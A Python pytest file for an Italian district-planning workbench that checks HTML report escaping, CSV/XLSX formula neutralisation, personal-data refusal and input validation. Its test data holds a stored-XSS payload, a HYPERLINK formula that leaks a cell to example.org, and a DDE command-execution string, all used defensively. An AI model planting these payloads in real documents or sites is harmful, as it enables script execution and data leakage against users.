"""Issue 15, items 4–14: exports escaped, personal data kept out, no traceback, no number silently changed,
no leftovers or races. One test (at least) per numbered item, named after it; the bad-input shapes also
feed the property-based suite in ``tests/test_bad_input.py``."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from workbench.paths import DEMO
from workbench.workshop import Store

SCRIPT = "<script>document.title='PWNED'</script><img src=x onerror=\"document.title='PWNED'\">"


def hostile_demo(folder: Path) -> Path:
    """The Cremasco demo with script payloads in the district name and the project families."""
    target = folder / "cremasco"
    shutil.copytree(DEMO / "cremasco", target)
    config = target / "distretto.toml"
    text = config.read_text(encoding="utf-8").replace('nome = "Ambito Cremasco"',
                                                      f"nome = {json.dumps(f'Ambito {SCRIPT} **Cremasco**')}")
    config.write_text(text + f"\nfamiglie_progetto = [{json.dumps(SCRIPT)}, 'lavoro di comunità']\n",
                      encoding="utf-8")
    return target


# -- 4. stored script injection in the HTML reports ------------------------------------------------------

def test_item4_markdown_summaries_escape_district_workshop_and_families():
    import mistune

    from workbench.escape import code_block, markdown
    from workbench.workshop_export import describe_setup

    setup = {"laboratorio": {"nome": SCRIPT, "data": "2025-03-12"}, "distretto": {"nome": SCRIPT},
             "archivio": "laboratori/x.sqlite", "punti": 5, "famiglie": [SCRIPT],
             "riferimenti": {"comune": [], "sub_ambito": [], "area": [], "attore": []}, "grafici": [],
             "oggetti": [], "documenti": []}
    for text in (describe_setup(setup), f"**{markdown(SCRIPT)}**", code_block("``` " + SCRIPT)):
        rendered = mistune.html(text)
        assert "<script" not in rendered and "<img" not in rendered, rendered
    assert "PWNED" in mistune.html(describe_setup(setup))  # shown as text, not dropped


@pytest.mark.slow
@pytest.mark.browser
def test_item4_stored_script_injection_in_html_reports(tmp_path, page):
    from workbench.runner import run_district

    reports = tmp_path / "reports"
    run_district(hostile_demo(tmp_path), reports, {"nome_laboratorio": SCRIPT}, progress=False,
                 log=lambda *_: None)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    exported = sorted((reports / "cremasco" / "report").glob("*.html"))
    assert [p.name[:2] for p in exported] == ["01", "02", "03", "04"]
    for html_file in exported:
        page.goto(html_file.as_uri())
        page.wait_for_timeout(500)
        assert page.title() != "PWNED", html_file.name
        assert page.evaluate("document.querySelectorAll('img[src=x], script:not([type])').length") == 0
        assert "<script>document.title" in page.inner_text("body"), html_file.name  # the name, as text
    assert dialogs == [] and page.blocked == []


# -- 5. formula injection in contributi.xlsx, the CSV files and `workbench esporta` ---------------------

FORMULA = '=HYPERLINK("http://example.org/?leak="&B3,"Clicca")'


def assert_no_live_formula(folder: Path, expected: str, sep: str) -> None:
    """No cell of any spreadsheet in ``folder`` is a formula; ``expected`` is shown exactly as typed."""
    import csv

    import openpyxl

    books = sorted(folder.glob("*.xlsx"))
    assert books
    shown = []
    for book in books:
        for sheet in openpyxl.load_workbook(book).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{book.name}!{cell.coordinate} is a formula: {cell.value}"
                    shown += [cell.value] if cell.value == expected else []
    assert shown, "the typed text is kept in the workbook"
    for path in sorted(folder.glob("*.csv")):
        with open(path, encoding="utf-8-sig", newline="") as f:
            cells = [c for row in csv.reader(f, delimiter=sep) for c in row]
        assert not any(c.startswith(("=", "+", "@")) for c in cells), path.name


def test_item5_formula_injection_in_contributi_xlsx_and_csv(tmp_path):
    import csv

    from workbench.workshop_export import export_workshop

    store = Store(tmp_path / "laboratorio-prova.sqlite", name="Prova")
    note = store.add_note("=1+1", "tecnico", "proposta", FORMULA)
    store.add_note("@SUM(A1)", "cittadino", "criticità", "+cmd|' /C calc'!A0")
    store.vote("=1+1", "tecnico", note)
    store.close()
    out = tmp_path / "export"
    export_workshop(tmp_path / "laboratorio-prova.sqlite", out, log=lambda *_: None)
    assert_no_live_formula(out, FORMULA, ";")
    with open(next(out.glob("*-note.csv")), encoding="utf-8-sig", newline="") as f:
        texts = {r["testo"] for r in csv.DictReader(f, delimiter=";")}
    assert texts == {"'" + FORMULA, "'+cmd|' /C calc'!A0"}  # OWASP: a leading apostrophe


def test_item5_formula_injection_in_workbench_esporta(demo_copy, tmp_path):
    from workbench.cli import main

    comuni = demo_copy / "comuni.csv"
    comuni.write_text(comuni.read_text(encoding="utf-8").replace(",Crema,", ',"=1+2",', 1), encoding="utf-8")
    out = tmp_path / "export"
    assert main(["esporta", str(demo_copy), "--out", str(out)]) == 0
    assert_no_live_formula(out, "=1+2", ",")


# -- 6. personal data in the workshop's free text ----------------------------------------------------------

@pytest.mark.parametrize("cf", ["RSSMRA85T10A562S", "rssmra85t10a562s", "RSS MRA 85T10 A562S",
                                "RSS-MRA-85-T-10-A562-S"])
def test_item6_codice_fiscale_refused_in_notes_and_names(tmp_path, cf):
    from workbench.workshop import WorkshopError

    store = Store(tmp_path / "lab.sqlite")
    with pytest.raises(WorkshopError, match="codice fiscale"):
        store.add_note("Anna", "tecnico", "criticità", f"La signora con codice {cf} non ha la domiciliare")
    with pytest.raises(WorkshopError, match="codice fiscale"):
        store.add_note(cf, "tecnico", "criticità", "Servizio carente")
    note = store.add_note("Anna", "tecnico", "criticità", "Servizio carente")
    with pytest.raises(WorkshopError, match="codice fiscale"):
        store.edit_note(note, "Anna", f"Servizio carente per {cf}")
    assert [n["testo"] for n in store.notes()] == ["Servizio carente"]
    assert all(cf not in h["testo"] for h in store.history())


def test_item6_phone_and_email_warned_then_saved_when_sent_again(tmp_path):
    from types import SimpleNamespace

    from workbench.workshop import PersonalDataWarning
    from workbench.workshop_page import _save

    store = Store(tmp_path / "lab.sqlite")
    text = "Per il trasporto chiamate il 333 1234567 o scrivete a m.rossi@example.org"
    with pytest.raises(PersonalDataWarning, match="un indirizzo e-mail e un numero di telefono"):
        store.add_note("Anna", "tecnico", "proposta", text)
    assert store.notes() == []
    # the page: the first press shows the warning, the same note sent again is saved (once)
    status, pending = SimpleNamespace(value=""), {}
    action = lambda op: store.add_note("Anna", "tecnico", "proposta", text, op=op)  # noqa: E731
    assert not _save(action, status, "Nota salvata", pending, ("nota", text))
    assert "Attenzione" in status.value and "premi di nuovo" in status.value
    assert _save(action, status, "Nota salvata", pending, ("nota", text))
    assert [n["testo"] for n in store.notes()] == [text]
    assert store.add_note("Bea", "tecnico", "proposta", "Più corse del bus 12 nel 2025") in {
        n["id"] for n in store.notes()}  # ordinary numbers are not phone numbers


def test_item6_facilitator_redacts_a_note_with_history(tmp_path):
    import csv

    from workbench.workshop import REDACTED
    from workbench.workshop_export import export_workshop
    from workbench.workshop_page import _redaction_box

    store = Store(tmp_path / "laboratorio-prova.sqlite", name="Prova")
    text = "Il sig. Bianchi (333 1234567) non riceve il pasto"
    note = store.add_note("Anna", "tecnico", "criticità", text, confirmed=True)
    store.edit_note(note, "Anna", text + " da marzo", confirmed=True)
    store.vote("Bea", "cittadino", note)
    box, _ = _redaction_box(store, lambda *_: None)
    pick, typed, buttons = box.children[1], box.children[2], box.children[3]
    assert pick.value == note
    typed.value = corrected = "Un anziano non riceve il pasto a domicilio da marzo"
    buttons.children[0].click()
    assert "oscurata" in buttons.children[1].value
    assert [n["testo"] for n in store.notes()] == [corrected]
    history = store.history(note)
    assert [h["azione"] for h in history] == ["creata", "modificata", "oscurata"]
    assert history[-1]["chi"] == "facilitatore" and all("Bianchi" not in h["testo"] for h in history)
    assert store.notes()[0]["punti"] == 1  # the votes stay
    other = store.add_note("Carla", "tecnico", "proposta", "Scrivetemi a carla@example.org", confirmed=True)
    assert store.redact_note(other, "facilitatore")
    assert store.notes()[-1]["testo"] == REDACTED
    store.close()
    out = tmp_path / "export"
    export_workshop(tmp_path / "laboratorio-prova.sqlite", out, log=lambda *_: None)
    for path in out.glob("*"):
        if path.suffix in (".csv", ".md", ".html"):
            content = path.read_text(encoding="utf-8-sig")
            assert "Bianchi" not in content and "carla@" not in content, path.name


def test_item6_spaced_codice_fiscale_refused_in_tables_too(demo_copy):
    from workbench.errors import Code
    from workbench.workspace import check_workspace

    meta = demo_copy / "indicatori_meta.csv"
    meta.write_text(meta.read_text(encoding="utf-8").replace("invecchiamento", "RSS MRA 85T10 A562S", 1),
                    encoding="utf-8")
    _, problems = check_workspace(demo_copy)
    assert [(p.code, p.row, p.column) for p in problems if not p.warning] == [(Code.PERSONAL_VALUE, 2, "tema")]


# -- 7. type errors in distretto.toml ---------------------------------------------------------------------

@pytest.mark.parametrize("entry, detail", [
    ('sub_ambiti = "Nord"', "serve un elenco"), ("sub_ambiti = [1, 2]", "solo testi"),
    ('famiglie_progetto = "casa"', "serve un elenco"), ('dati_dimostrativi = [["servizi"]]', "solo testi"),
    ('soglia_riservatezza = "5"', "serve un numero intero"), ("soglia_riservatezza = 0", "fra 1 e 1000"),
    ('anno = "2023"', "serve un numero intero"), ("anno = 20230", "fra 1900 e 2100"), ("anno = 2023.0", "intero"),
    ("note = 3", "serve un testo"), ('nome = ""', "non può essere vuota"), ("nome = true", "serve un testo"),
    ("sub_ambiti = 1979-05-27", "serve un elenco"), ("sub_ambiti = {a = 1}", "serve un elenco"),
])
def test_item7_config_type_errors_are_italian_problems(demo_copy, entry, detail):
    from workbench.cli import main
    from workbench.errors import Code
    from workbench.workspace import check_workspace

    config = demo_copy / "distretto.toml"
    key = entry.split(" =")[0]
    lines = [line for line in config.read_text(encoding="utf-8").splitlines() if not line.startswith(key + " ")]
    config.write_text("\n".join(lines + [entry]) + "\n", encoding="utf-8")
    workspace, problems = check_workspace(demo_copy)  # no TypeError
    errors = [p for p in problems if not p.warning]
    assert workspace is None and [(p.code, p.column) for p in errors] == [(Code.CONFIG_VALUE, key)]
    assert detail in str(errors[0]) and str(errors[0]).startswith("Errore — distretto.toml: distretto.toml, voce")
    assert main(["verifica", str(demo_copy)]) == 1


def test_item7_toml_syntax_error_in_italian(demo_copy):
    from workbench.workspace import check_workspace

    (demo_copy / "distretto.toml").write_text('nome = "Ambito" x\nanno = 2023\n', encoding="utf-8")
    _, problems = check_workspace(demo_copy)
    assert "errore di sintassi alla riga 1, colonna 17" in str(problems[0])
    assert "Expected" not in str(problems[0])


# -- 11. 1e308 and other values no real datum has ----------------------------------------------------------

def _set_cell(path: Path, row: int, column: str, value: str) -> None:
    """Change one cell of a demo CSV (``row`` as Excel counts, header = 1)."""
    import csv

    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    rows[row - 1][rows[0].index(column)] = value
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)


@pytest.mark.parametrize("value", ["1e308", "-1e308", "1e16", "1e400", "inf", "-Infinity", "nan", "1.0e+309"])
def test_item11_overflowing_and_non_finite_values_refused_by_verifica(demo_copy, value):
    from workbench.errors import Code
    from workbench.workspace import check_workspace

    _set_cell(demo_copy / "indicatori.csv", 2, "valore", value)
    workspace, problems = check_workspace(demo_copy)
    errors = [p for p in problems if not p.warning]
    assert workspace is None
    assert [(p.code, p.row, p.column, p.value) for p in errors] in (
        [(Code.NUMBER_TOO_LARGE, 2, "valore", value)], [(Code.NOT_NUMBER, 2, "valore", value)])


def test_item11_largest_accepted_value_loads(demo_copy):
    from workbench.workspace import check_workspace

    _set_cell(demo_copy / "indicatori.csv", 2, "valore", "1e15")
    workspace, problems = check_workspace(demo_copy)
    assert workspace is not None and workspace.tables["indicatori"]["valore"].iloc[0] == 1e15


# -- 12. ambiguous thousands separators --------------------------------------------------------------------

INDICATORI = "istat,anno,indicatore,valore\n"


def _indicator_values(demo_copy: Path, values: list[str], sep: str = ",") -> tuple:
    from workbench.workspace import check_workspace

    lines = [f"019035{sep}{2010 + i}{sep}indice_vecchiaia{sep}\"{v}\"" for i, v in enumerate(values)]
    (demo_copy / "indicatori.csv").write_text(INDICATORI.replace(",", sep) + "\n".join(lines) + "\n",
                                              encoding="utf-8")
    return check_workspace(demo_copy)


def test_item12_english_thousands_among_italian_numbers_is_an_error_naming_the_cell(demo_copy):
    from workbench.errors import Code

    workspace, problems = _indicator_values(demo_copy, ["1,234.56", "12,5", "7"])
    errors = [p for p in problems if not p.warning]
    assert workspace is None
    assert [(p.code, p.file, p.row, p.column, p.value) for p in errors] == [
        (Code.AMBIGUOUS_NUMBER, "indicatori.csv", 2, "valore", "1,234.56")]
    assert "«12,5»" in str(errors[0])


def test_item12_english_thousands_in_a_semicolon_file_is_an_error(demo_copy):
    from workbench.errors import Code

    workspace, problems = _indicator_values(demo_copy, ["1,234.56", "2.500"], sep=";")
    assert workspace is None and [p.code for p in problems if not p.warning] == [Code.AMBIGUOUS_NUMBER]


@pytest.mark.parametrize("values, expected", [
    (["1,234.56", "12.5", "1,234", "3"], [1234.56, 12.5, 1234.0, 3.0]),      # English file: unambiguous
    (["1.234,56", "12,5", "1,234", "3"], [1234.56, 12.5, 1.234, 3.0]),      # Italian file, as before
    (["1,234,567", "0.5"], [1234567.0, 0.5]),
])
def test_item12_numbers_read_by_the_file_convention(demo_copy, values, expected):
    workspace, problems = _indicator_values(demo_copy, values)
    assert workspace is not None, problems
    assert workspace.tables["indicatori"]["valore"].tolist() == expected


# -- 13. files mixing UTF-8 and Windows-1252 ---------------------------------------------------------------

COMUNI_HEADER = "istat,comune,popolazione\n"


@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
def test_item13_mixed_utf8_and_windows1252_refused_naming_the_first_bad_row(demo_copy, bom):
    from workbench.errors import Code
    from workbench.workspace import check_workspace

    comuni = demo_copy / "comuni.csv"
    lines = comuni.read_bytes().decode("utf-8").splitlines()
    body = [line.encode("utf-8") for line in lines]
    body[3] = lines[3].replace("Camisano", "Bagnolò").encode("utf-8")           # UTF-8 here...
    body[6] = lines[6].replace("Capralba", "Capralbà").encode("cp1252")         # ...Windows-1252 there
    comuni.write_bytes(bom + b"\n".join(body) + b"\n")
    workspace, problems = check_workspace(demo_copy)
    errors = [p for p in problems if not p.warning]
    assert workspace is None
    assert [(p.code, p.file, p.row) for p in errors] == [(Code.ENCODING_MIXED, "comuni.csv", 7)]
    assert "Capralbà" in str(errors[0]) and "CSV UTF-8" in str(errors[0])
    assert ("BOM" in str(errors[0])) == bool(bom)


def test_item13_bom_followed_by_windows1252_is_named(demo_copy):
    from workbench.errors import Code
    from workbench.workspace import check_workspace

    comuni = demo_copy / "comuni.csv"
    text = comuni.read_text(encoding="utf-8").replace("Crema,", "Cremà,", 1)
    comuni.write_bytes(b"\xef\xbb\xbf" + text.encode("cp1252"))
    _, problems = check_workspace(demo_copy)
    assert [p.code for p in problems if not p.warning] == [Code.ENCODING_MIXED]  # not «Manca la colonna istat»


def test_item13_plain_windows1252_still_loads(demo_copy):
    from workbench.workspace import check_workspace

    comuni = demo_copy / "comuni.csv"
    comuni.write_bytes(comuni.read_text(encoding="utf-8").replace("Crema,", "Cremà,", 1).encode("cp1252"))
    workspace, problems = check_workspace(demo_copy)
    assert workspace is not None and "Cremà" in set(workspace.table("comuni")["comune"])
